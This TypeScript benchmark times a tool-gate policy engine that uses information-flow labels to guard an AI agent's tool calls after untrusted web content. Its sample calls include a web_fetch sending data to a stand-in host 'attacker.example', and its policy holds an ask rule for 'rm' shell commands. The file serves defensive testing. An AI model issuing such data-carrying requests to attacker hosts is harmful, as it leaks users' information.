/**
 * @module bench/labels
 * The decide step's added cost with information-flow labels (docs/injection.md): the same prepared calls —
 * a `web_fetch` to a new host, one to a host the user named, a shell command, a `git push`, a file read, a
 * user-level memory write — decided by the gate's policy engine with the guard and a tainted context (an
 * untrusted, public context: 12 sources, 200 trusted hosts, 2,000 offered links), and by the same engine
 * without labels (no guard, no context), interleaved call by call. The anchor is the engine without labels;
 * the target is the issue's: ≤ 1.2× at p50.
 */
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { DecisionRequest, Label, LabelSource } from "../core/index.js";
import { FlowSession } from "../core/index.js";
import { createFlowKnowledge, PolicyEngine } from "../policy/index.js";
import { createToolgate } from "../toolgate.js";
import { fmt, interleaved, report } from "./harness.js";

const ROUNDS = 3000;
/** Which of CALLS send data out after untrusted content (the guard raises them to ask). */
const SINKS = new Set([0, 3, 5]);

const CALLS: { name: string; args: Record<string, unknown> }[] = [
  { name: "web_fetch", args: { url: "https://attacker.example/c?d=1" } },
  { name: "web_fetch", args: { url: "https://docs.example.com/api/v2" } },
  { name: "shell", args: { command: "npm test -- --run src/a.test.ts" } },
  { name: "shell", args: { command: "git push origin HEAD" } },
  { name: "read_file", args: { path: "src/index.ts" } },
  { name: "memory", args: { action: "set", scope: "user", key: "k", value: "v" } },
];

function taintedContext(): FlowSession {
  const sources: LabelSource[] = Array.from({ length: 12 }, (_, i) => ({
    tool: "web_fetch",
    integrity: "untrusted",
    confidentiality: "public",
    what: `site${i}.example`,
    excerpt: "Some page text that the model read.",
  }));
  const label: Label = { integrity: "untrusted", confidentiality: "public", sources };
  const hosts = Array.from({ length: 200 }, (_, i) => `host${i}.example.com`).concat("docs.example.com");
  const links = Array.from({ length: 2000 }, (_, i) => `https://cdn${i % 50}.example.org/lib/${i}`);
  return FlowSession.from({ label, trustedHosts: hosts, links });
}

export default async function run(): Promise<void> {
  const root = await mkdtemp(join(tmpdir(), "toolgate-bench-labels-"));
  const gate = await createToolgate({
    roots: [root],
    policyText:
      'default = "allow"\n[[rules]]\ntool = "shell"\ndecision = "ask"\nwhen.command = { prefix = ["rm"] }\n',
    hooks: false,
    logger: { warn: () => undefined },
  });
  try {
    const knowledge = createFlowKnowledge({
      workspaceTrusted: true,
      isSecret: (path) => path.startsWith(".env"),
      trustedServers: new Set(),
    });
    const roots = [root];
    const withLabels = new PolicyEngine({ policy: gate.policy, roots, flow: { knowledge, guard: true } });
    const without = new PolicyEngine({ policy: gate.policy, roots });
    const context = taintedContext();
    const requests: DecisionRequest[] = CALLS.map((call) => {
      const tool = gate.registry.get(call.name);
      if (!tool) throw new Error(`bench: no tool ${call.name}`);
      const invocation = tool.build(call.args);
      return { tool, invocation, args: call.args, risk: invocation.riskFor() };
    });
    // The requests with the context are made once, as a session's call is: the timed step is the decision.
    const tainted = context;
    const clean = FlowSession.from({ trustedHosts: ["docs.example.com"] });
    const lines = [
      { what: "tainted context (untrusted, public)", context: tainted, calls: requests },
      // The calls the guard leaves alone after untrusted content: what a tainted session pays on every
      // call that is not asked about anyway (a sink's raised ask waits for a person).
      {
        what: "tainted context, calls that send nothing out",
        context: tainted,
        calls: requests.filter((_, k) => !SINKS.has(k)),
      },
      { what: "clean context (nothing untrusted read)", context: clean, calls: requests },
    ];
    for (const line of lines) {
      const ours = line.calls.map((request) => ({ ...request, context: line.context }));
      let i = 0;
      let j = 0;
      const [withStats, anchor] = await interleaved(
        () => withLabels.decide(ours[i++ % ours.length]!),
        () => without.decide(line.calls[j++ % line.calls.length]!),
        ROUNDS * line.calls.length,
      );
      const ratio = withStats.p50 / anchor.p50;
      report({
        name: `decide with labels (guard on, ${line.what}) vs without, ${line.calls.length} calls × ${ROUNDS}`,
        ours: `p50 ${fmt(withStats.p50)} p99 ${fmt(withStats.p99)}`,
        anchor: `same calls, same engine without labels: p50 ${fmt(anchor.p50)} p99 ${fmt(anchor.p99)} (p99 ratio ${(withStats.p99 / anchor.p99).toFixed(2)}×)`,
        ratio,
        target: "≤ 1.2× at p50",
        pass: ratio <= 1.2,
      });
    }
  } finally {
    await gate.close();
    await rm(root, { recursive: true, force: true });
  }
}
